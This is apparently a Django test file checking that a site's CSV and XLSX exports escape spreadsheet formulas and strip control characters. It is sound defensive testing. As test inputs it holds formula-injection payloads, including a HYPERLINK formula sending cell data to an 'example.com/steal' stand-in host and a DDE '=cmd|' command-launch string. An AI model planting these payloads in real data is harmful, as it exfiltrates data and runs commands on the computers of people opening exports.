"""One way out for every CSV and XLSX file (toolbox_site/exports.py): no live formulas,
no character a spreadsheet cannot hold, whatever is stored; and no export can go around it."""

import ast
import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from criteria.models import Criterion, LocalAgreement
from finder.models import LifeSituation
from finder.services import count_search
from monitoring.models import Value
from network import importing
from network.models import Service
from toolbox_site import exports
from toolbox_site.models import Organization

from ..monitoring.fixtures import make_report
from ..sources import PROJECT_APPS, python_files

FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Klik hier")'
APPS = PROJECT_APPS


# --- The helper itself -------------------------------------------------------------------


@given(st.text())
def test_no_text_comes_out_as_a_formula_or_with_a_forbidden_character(value):
    shown = exports.text(value)
    assert not ILLEGAL_CHARACTERS_RE.search(shown)
    assert not shown.startswith(("=", "+", "@", "\t", "\r")) or shown.startswith("'")
    if shown.startswith("-"):
        assert exports.ONLY_A_NUMBER.fullmatch(shown)


@given(st.text())
def test_any_text_survives_a_spreadsheet_and_reads_back_as_itself(value):
    book = exports.workbook()
    exports.add_sheet(book, value or "x", [[value]])
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(book))).worksheets[0]
    read = exports.readable(sheet["A1"].value) or ""
    assert sheet["A1"].data_type != "f"
    expected = ILLEGAL_CHARACTERS_RE.sub("", value)

    def lines(text):  # XML turns every line end into a newline
        return text.replace("\r\n", "\n").replace("\r", "\n")

    assert lines(read) == lines(expected)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5)))
def test_any_rows_make_a_csv_file_whose_cells_start_no_formula(rows):
    content = exports.csv_bytes(rows).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=";"):
        for value in row:
            assert not value.startswith(("=", "+", "@")), value


def test_numbers_and_dates_stay_what_they_are():
    today = timezone.localdate()
    assert exports.cell(-3) == -3
    assert exports.cell(Decimal("12.5")) == Decimal("12.5")
    assert exports.cell(today) == today
    assert exports.text("-12,5 %") == "-12,5 %"
    assert exports.text("-1+1") == "'-1+1"
    assert exports.text("@SUM(A1)") == "'@SUM(A1)"


# --- Nothing goes around it ----------------------------------------------------------------


def test_no_module_writes_csv_or_xlsx_files_itself():
    """csv.writer, openpyxl's Workbook and tablib only in toolbox_site/exports.py."""
    found = []
    for app in APPS:
        for path in python_files(app):
            relative = path.relative_to(settings.BASE_DIR)
            if str(relative) == "toolbox_site/exports.py":
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                names = []
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    names.append(f"csv.{node.attr}")
                if isinstance(node, ast.ImportFrom) and node.module in ("openpyxl", "csv"):
                    names += [
                        alias.name
                        for alias in node.names
                        if alias.name in ("Workbook", "writer", "DictWriter")
                    ]
                if isinstance(node, ast.Import | ast.ImportFrom):
                    modules = [alias.name for alias in node.names] + [getattr(node, "module", "")]
                    names += [name for name in modules if name and name.startswith("tablib")]
                found += [f"{relative}:{node.lineno} {name}" for name in names]
    assert not found, "Write files through toolbox_site/exports.py: " + ", ".join(found)


# --- Every export, with a formula and a control character stored ----------------------------


def poisoned_service(enschede):
    service = Service.objects.filter(owning_organization=enschede).first()
    Service.objects.filter(pk=service.pk).update(
        name=FORMULA, description="Regel één\x01\x0bregel twee"
    )
    return service


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_service_export_neutralises_formulas_and_survives_control_characters(
    client, network, enschede, enschede_editor, file_format
):
    poisoned_service(enschede)
    client.force_login(enschede_editor)
    response = client.get(reverse("network:export", args=["enschede", file_format]))
    assert response.status_code == 200
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
        assert "'" + FORMULA in [row["naam"] for row in rows]
        assert "\x01" not in text
        return
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    names = [cell for cell in sheet["B"] if cell.value and "HYPERLINK" in str(cell.value)]
    assert names and names[0].data_type == "s"
    assert names[0].value == "'" + FORMULA


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_formula_text_reads_back_unchanged(
    client, network, enschede, enschede_editor, file_format
):
    service = poisoned_service(enschede)
    Service.objects.filter(pk=service.pk).update(description="Gewone tekst")
    client.force_login(enschede_editor)
    content = client.get(reverse("network:export", args=["enschede", file_format])).content

    result = importing.validate(SimpleUploadedFile(f"d.{file_format}", content), enschede)
    assert not result.errors
    assert all(
        row["action"] == "unchanged" for row in result.rows if row["values"]["naam"] == FORMULA
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_agreements_export_survives_a_stored_control_character(
    client, cast, criteria_framework, enschede, file_format
):
    Criterion.objects.filter(code="ON-1").update(title="=1+1 onafhankelijk\x02")
    LocalAgreement.objects.create(
        municipality=enschede,
        criterion=Criterion.objects.get(code="ON-1"),
        status="agreed",
        area="quality",
    )
    client.force_login(cast["enschede.viewer"])
    response = client.get(reverse("criteria:matrix"), {"formaat": file_format})
    assert response.status_code == 200
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        titles = [cell.value for cell in sheet["B"]]
        assert "'=1+1 onafhankelijk" in titles
    else:
        assert ";'=1+1 onafhankelijk;" in response.content.decode("utf-8-sig")


def test_the_report_download_survives_a_stored_control_character(client, cast):
    report = make_report("enschede", filled=True)
    Value.objects.filter(report=report, dimension_item__isnull=True).update(
        comment="=cmd|' /C calc'!A0 \x03"
    )
    client.force_login(cast["enschede.editor"])
    response = client.get(reverse("monitoring:download", args=[report.pk]))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    comments = [
        cell.value for sheet in book.worksheets[1:-1] for cell in sheet["G"][1:] if cell.value
    ]
    assert comments and all(value.startswith("'=cmd") for value in comments)
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet for cell in row)


def test_the_unmet_demand_export_neutralises_a_municipality_name(
    client, cast, life_situations, enschede
):
    Organization.objects.filter(pk=enschede.pk).update(name="@SUM(1+1)*cmd")
    count_search(
        enschede,
        LifeSituation.objects.first(),
        age_group="",
        preference="",
        language="",
        result_count=0,
        independent_found=False,
    )
    client.force_login(cast["twente.coordinator"])
    response = client.get(reverse("finder:unmet_demand_csv"))
    assert response.status_code == 200
    assert ";'@SUM(1+1)*cmd;" in response.content.decode("utf-8-sig")
